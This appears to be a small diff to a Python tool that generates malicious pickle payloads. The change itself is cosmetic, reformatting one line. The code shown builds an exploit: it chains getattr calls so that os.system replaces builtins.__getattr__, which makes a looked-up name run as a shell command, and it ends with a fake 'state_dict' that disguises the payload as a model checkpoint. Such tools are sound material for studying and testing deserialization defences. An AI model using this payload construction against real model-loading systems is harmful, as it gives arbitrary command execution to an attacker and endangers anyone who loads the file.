@@ -78,7 +78,9 @@ def getattr_chain_bytes(command: str) -> bytes:
     system = ops.call2(getattr_, os_module, "system")
     ops.setitem(builtins_dict, "__getattr__", system)  # builtins.<missing> -> os.system(<missing>)
     ops.call2(getattr_, builtins_module, command)
-    ops.code += pickle.EMPTY_DICT + pickle_string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
+    ops.code += (
+        pickle.EMPTY_DICT + pickle_string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
+    )
     return bytes(ops.code)
 
 
